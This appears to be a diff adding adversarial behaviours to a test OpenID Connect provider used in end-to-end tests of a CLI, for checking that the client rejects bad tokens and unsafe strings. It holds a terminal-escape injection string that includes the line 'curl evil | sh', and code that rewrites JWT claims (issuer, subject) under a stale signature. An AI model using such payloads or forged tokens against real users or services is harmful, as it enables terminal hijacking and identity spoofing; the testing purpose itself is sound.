@@ -14,6 +14,11 @@
 // E2E_SAML_SESSION_DURATION (seconds, default 3600), E2E_PROVIDER_DEBUG=1 (log events to stderr),
 // E2E_TLS=1 (serve https with fixtures/oidc/tls/server.pem and server.key, a certificate for
 // 127.0.0.1 from the test CA fixtures/oidc/tls/ca.pem; the issuer is then https://127.0.0.1:PORT).
+//
+// E2E_BEHAVIOUR: comma-separated ways to differ from a cooperative provider, as
+// real ones do (see behave() below): refresh_no_id_token, refresh_empty_400,
+// foreign_iss, refresh_other_sub, callback_no_iss, hostile_issuer, hostile_user_code.
+// GET /__e2e/stats answers {"token_requests":N,"refresh_grants":N}.
 
 import crypto from 'node:crypto';
 import fs from 'node:fs';
@@ -72,6 +77,65 @@ const client = (extra) => ({
   ...extra,
 });
 
+const BEHAVIOURS = new Set((process.env.E2E_BEHAVIOUR ?? '').split(',').map((s) => s.trim()).filter(Boolean));
+const KNOWN = ['refresh_no_id_token', 'refresh_empty_400', 'foreign_iss', 'refresh_other_sub',
+  'callback_no_iss', 'hostile_issuer', 'hostile_user_code'];
+for (const b of BEHAVIOURS) {
+  if (!KNOWN.includes(b)) { console.error(`[provider] unknown E2E_BEHAVIOUR ${b}`); process.exit(2); }
+}
+const stats = { token_requests: 0, refresh_grants: 0 };
+// Terminal escapes: set the window title, ring the bell, clear the screen.
+const HOSTILE = '\u001b]0;pwned\u0007\u001b[2J\r\nRun: curl evil | sh\u202e';
+
+// Rewrite claims of a compact JWS, keeping its (now wrong) signature: the CLI
+// does not verify signatures (STS does), so what it checks is the claims.
+function rewriteJwt(jwt, change) {
+  const [header, payload, signature] = String(jwt).split('.');
+  const claims = JSON.parse(Buffer.from(payload, 'base64url').toString('utf8'));
+  change(claims);
+  return `${header}.${Buffer.from(JSON.stringify(claims), 'utf8').toString('base64url')}.${signature}`;
+}
+
+// Koa middleware: the behaviours of E2E_BEHAVIOUR, and the request counters.
+async function behave(ctx, next) {
+  if (ctx.method === 'GET' && ctx.path === '/__e2e/stats') {
+    ctx.body = stats;
+    return;
+  }
+  await next();
+  if (ctx.method === 'POST' && ctx.path === '/token') {
+    stats.token_requests += 1;
+    const grant = ctx.oidc?.params?.grant_type;
+    if (grant === 'refresh_token') stats.refresh_grants += 1;
+    const body = ctx.body && typeof ctx.body === 'object' ? ctx.body : undefined;
+    if (grant === 'refresh_token' && BEHAVIOURS.has('refresh_empty_400')) {
+      ctx.body = '';
+      ctx.status = 400;
+      ctx.remove('Content-Type');
+      return;
+    }
+    if (body?.id_token) {
+      if (grant === 'refresh_token' && BEHAVIOURS.has('refresh_no_id_token')) delete body.id_token;
+      else if (BEHAVIOURS.has('foreign_iss')) body.id_token = rewriteJwt(body.id_token, (c) => { c.iss = 'https://other-issuer.example'; });
+      else if (grant === 'refresh_token' && BEHAVIOURS.has('refresh_other_sub')) body.id_token = rewriteJwt(body.id_token, (c) => { c.sub = 'mallory'; });
+    }
+  }
+  if (ctx.method === 'GET' && ctx.path === '/.well-known/openid-configuration' && BEHAVIOURS.has('hostile_issuer')) {
+    ctx.body = { ...ctx.body, issuer: `${ctx.body.issuer}${HOSTILE}` };
+  }
+  if (ctx.method === 'POST' && ctx.path === '/device/auth' && BEHAVIOURS.has('hostile_user_code') && ctx.body?.user_code) {
+    ctx.body = { ...ctx.body, user_code: `${ctx.body.user_code}${HOSTILE}` };
+  }
+  if (BEHAVIOURS.has('callback_no_iss') && ctx.status >= 300 && ctx.status < 400) {
+    const location = ctx.response.get('Location');
+    if (location.startsWith('http://127.0.0.1') && location.includes('iss=')) {
+      const url = new URL(location);
+      url.searchParams.delete('iss');
+      ctx.redirect(url.toString());
+    }
+  }
+}
+
 const port = Number.parseInt(process.argv[2] ?? '0', 10) || 0;
 let handler = (_req, res) => { res.statusCode = 503; res.end(); };
 const tls = process.env.E2E_TLS === '1';
@@ -126,6 +190,7 @@ function start() {
     },
   });
   provider.proxy = false;
+  provider.use(behave);
 
   provider.registerGrantType(TOKEN_EXCHANGE, (ctx) => tokenExchange(provider, ctx),
     ['subject_token', 'subject_token_type', 'requested_token_type', 'audience', 'scope']);
